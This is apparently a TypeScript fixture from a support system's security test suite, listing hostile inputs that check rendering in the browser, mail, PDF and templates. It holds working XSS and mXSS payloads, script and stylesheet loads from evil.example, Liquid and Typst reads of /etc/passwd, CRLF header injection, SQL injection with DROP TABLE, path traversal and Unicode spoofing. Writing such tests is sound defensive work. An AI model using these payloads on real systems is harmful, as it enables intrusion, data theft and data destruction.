// The hostile content corpus: what attackers and broken mail clients put into support systems.
// Every payload that tries to run script sets window.__pwned (the browser suite checks it stays
// unset). `shows` is the part a reader must see literally wherever the payload is rendered — as
// plain text, and also after Markdown rendering (where a link keeps only its label).
// Used by test/security/hostile-content.test.ts (API, mail, PDF, templates) and
// test/e2e/hostile-content.spec.ts (workspace and portal in Chromium).

export type HostileKind =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg'
  | 'css'
  | 'markup-breakout'
  | 'template'
  | 'typst'
  | 'liquid'
  | 'crlf'
  | 'unicode'
  | 'control'
  | 'size'
  | 'path';

export interface HostilePayload {
  id: string;
  kind: HostileKind;
  text: string;
  /** Visible text that must appear literally on every surface (compared with `visible`). */
  shows: string;
  /** Where the PDF fonts (DejaVu, Liberation) have no glyph for some characters: what a PDF shows. */
  pdf?: string;
}

const p = (id: string, kind: HostileKind, text: string, shows: string = text, pdf?: string): HostilePayload => ({ id, kind, text, shows, ...(pdf ? { pdf } : {}) });

// A base64 HTML page that runs script, for data: URLs.
const DATA_PAGE = Buffer.from('<script>window.__pwned="data-url"</script>').toString('base64');

export const HOSTILE: HostilePayload[] = [
  // Script tags, in the forms filters miss.
  p('script-tag', 'script', '<script>window.__pwned="script-tag"</script>'),
  p('script-src', 'script', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
  p('script-split', 'script', '<scr<script>ipt>window.__pwned="split"</scr</script>ipt>'),
  p('script-entity', 'script', '&lt;script&gt;window.__pwned="entity"&lt;/script&gt;', 'window.__pwned="entity"'),
  p('script-in-attr-breakout', 'markup-breakout', '"><script>window.__pwned="attr"</script>'),
  p('script-single-quote-breakout', 'markup-breakout', "'><img src=x onerror=window.__pwned='sq'>"),
  p('textarea-breakout', 'markup-breakout', '</textarea><script>window.__pwned="textarea"</script>'),
  p('title-breakout', 'markup-breakout', '</title><script>window.__pwned="title"</script>'),
  p('noscript-mxss', 'markup-breakout', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>">'),
  p('math-mxss', 'markup-breakout', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned="math">'),
  p('template-tag', 'markup-breakout', '<template><script>window.__pwned="template"</script></template>'),
  // Event handlers.
  p('img-onerror', 'event-handler', '<img src=x onerror="window.__pwned=\'img\'">'),
  p('body-onload', 'event-handler', '<body onload=window.__pwned="body">'),
  p('details-ontoggle', 'event-handler', '<details open ontoggle="window.__pwned=\'details\'"><summary>open me</summary></details>'),
  p('input-autofocus', 'event-handler', '<input autofocus onfocus="window.__pwned=\'focus\'">'),
  p('video-onerror', 'event-handler', '<video><source onerror="window.__pwned=\'video\'"></video>'),
  p('div-onmouseover', 'event-handler', '<div onmouseover="window.__pwned=\'hover\'" style="position:fixed;inset:0">hover 1</div>'),
  // SVG.
  p('svg-onload', 'svg', '<svg onload="window.__pwned=\'svg-onload\'">'),
  p('svg-script', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned="svg-script"</script></svg>'),
  p('svg-animate-href', 'svg', '<svg><a><animate attributeName=href values=javascript:window.__pwned="svg-animate" /><text x=20 y=20>svg 2</text></a></svg>'),
  p('svg-foreignobject', 'svg', '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>'),
  // Links with script and data URLs, in HTML and in Markdown.
  p('html-javascript-link', 'url-scheme', '<a href="javascript:window.__pwned=\'a-href\'">click me 1</a>'),
  p('md-javascript-link', 'url-scheme', '[click me 2](javascript:window.__pwned="md-link")', 'click me 2'),
  p('md-javascript-link-case', 'url-scheme', '[click me 3](JaVaScRiPt:window.__pwned="md-case")', 'click me 3'),
  p('md-javascript-entity', 'url-scheme', '[click me 4](javascript&#58;window.__pwned="md-entity")', 'click me 4'),
  p('md-javascript-space', 'url-scheme', '[click me 5]( javascript:window.__pwned="md-space" "title")', 'click me 5'),
  p('md-data-link', 'url-scheme', `[click me 6](data:text/html;base64,${DATA_PAGE})`, 'click me 6'),
  p('md-image-javascript', 'url-scheme', '![image 7](javascript:window.__pwned="md-img")', 'image 7'),
  p('md-autolink-javascript', 'url-scheme', '<javascript:window.__pwned="autolink">', 'window.__pwned="autolink"'),
  p('md-reference-link', 'url-scheme', '[click me 8][x]\n\n[x]: javascript:window.__pwned="md-ref"', 'click me 8'),
  p('html-data-link', 'url-scheme', `<a href="data:text/html;base64,${DATA_PAGE}">click me 9</a>`),
  p('iframe-javascript', 'url-scheme', '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>'),
  p('iframe-srcdoc', 'url-scheme', '<iframe srcdoc="&lt;script&gt;parent.__pwned=\'srcdoc\'&lt;/script&gt;"></iframe>'),
  p('object-data', 'url-scheme', `<object data="data:text/html;base64,${DATA_PAGE}"></object>`),
  p('form-action', 'url-scheme', '<form action="javascript:window.__pwned=\'form\'"><button>go 10</button></form>'),
  p('meta-refresh', 'url-scheme', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'meta\'">'),
  p('base-href', 'url-scheme', '<base href="javascript:window.__pwned=\'base\'//">'),
  p('url-quote-breakout', 'url-scheme', 'see https://example.com/"onmouseover="window.__pwned=\'url\'"x'),
  p('bare-javascript-url', 'url-scheme', 'javascript:window.__pwned="bare"'),
  // CSS injection.
  p('style-tag', 'css', '<style>body{background:url("javascript:window.__pwned=\'css\'")} *{display:none}</style>'),
  p('style-attr', 'css', '<div style="background-image:url(javascript:window.__pwned=\'style\');width:expression(window.__pwned=\'expr\')">css 11</div>'),
  p('css-import', 'css', '<style>@import url("https://evil.example/steal.css");</style>'),
  // Client-side template injection.
  p('angular-expression', 'template', "{{constructor.constructor('window.__pwned=\"angular\"')()}}"),
  p('js-template-literal', 'template', '${window.__pwned="literal"}'),
  // Liquid (email templates).
  p('liquid-output', 'liquid', '{{ 7*7 }} {{ contact.email }}'),
  p('liquid-include', 'liquid', "{% include '/etc/passwd' %}"),
  p('liquid-render-loop', 'liquid', '{% for i in (1..100000000) %}x{% endfor %}{% raw %}'),
  p('liquid-assign', 'liquid', '{% assign x = "pwned" %}{{ x }}{% comment %}'),
  // Typst (review documents).
  p('typst-read', 'typst', '#read("/etc/passwd")'),
  p('typst-import', 'typst', '#import "/etc/passwd": *'),
  p('typst-panic', 'typst', '#panic("boom")'),
  p('typst-code-block', 'typst', '#{ let x = read("casebook.db"); x }'),
  p('typst-breakout', 'typst', ']) #set page(width: 1pt) #(" $ x^2 $ #sys.inputs'),
  p('typst-markup-chars', 'typst', '= heading <label> @ref \\ *bold* _em_ `raw` ~ -- ---', '= heading <label> @ref'),
  // CRLF into header values (subjects, names, file names).
  p('crlf-bcc', 'crlf', 'Printer broken\r\nBcc: victim@evil.example\r\nX-Injected: yes', 'Printer broken'),
  p('crlf-body', 'crlf', 'Hello\r\n\r\n<html><body>injected body</body></html>', 'injected body'),
  p('lf-to', 'crlf', 'Status\nTo: evil@evil.example\nX-Injected: yes', 'Status'),
  p('crlf-encoded', 'crlf', '%0d%0aSet-Cookie: pwned=1%0d%0a'),
  // Unicode tricks.
  p('bidi-override', 'unicode', 'invoice\u202Egpj.exe', 'invoice'),
  p('bidi-isolates', 'unicode', '\u2066admin\u2069 \u2067\u2068reversed\u2069 \u200Fmark', 'admin'),
  p('zero-width', 'unicode', 'pa\u200Bss\u200Cword\u200D\uFEFF reset', 'reset'),
  p('homoglyph', 'unicode', 'Sign in at аdmin@саsebook.local (Cyrillic а and с)'),
  p('combining-zalgo', 'unicode', 'Z\u0334\u0321a\u0335l\u0338g\u0336o\u0337 \u{1D54F}'),
  // No emoji font on the machine: the PDF shows the text around them (the browser and mail keep them).
  p('emoji-zwj', 'unicode', 'family \u{1F469}\u200D\u{1F469}\u200D\u{1F467} \u{1F4A9}', 'family', 'family'),
  p('line-separators', 'unicode', 'line\u2028separator\u2029paragraph\u0085next', 'line'),
  // Control characters.
  p('nul', 'control', 'before\u0000after', 'before'),
  p('terminal-escapes', 'control', 'bell\u0007back\u0008esc\u001b[31mred\u001b[0m', 'bell'),
  // Other classics.
  p('sql-injection', 'script', "'; DROP TABLE cases; -- \" OR 1=1"),
  p('path-traversal', 'path', '../../../etc/passwd'),
  p('windows-path', 'path', '..\\..\\windows\\win.ini', 'windows\\win.ini'),
  // Size: a very long line and a 1 MB string (fields refuse what is over their limit, naming it).
  // Typst sets an unbroken run on one line and the page edge cuts it, so PDF checks look for its start.
  p('long-line', 'size', `long-${'x'.repeat(20_000)}-end`, 'long-'),
  p('one-megabyte', 'size', 'M'.repeat(1024 * 1024), 'MMMM'),
];

/** Text as a reader sees it: whitespace, control and format characters ignored. */
export function visible(s: string): string {
  return s.replace(/[\s\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, '');
}

/** Payloads that fit a field of at most `max` characters (after trimming). */
export const fitting = (max: number) => HOSTILE.filter((x) => x.text.trim().length <= max);

/** Payloads that do not fit: the API must refuse them with 400/413 naming the field. */
export const tooLong = (max: number) => HOSTILE.filter((x) => x.text.trim().length > max);

/** Every payload that tries to run script sets this global; it must stay undefined. */
export const PWNED = '__pwned';
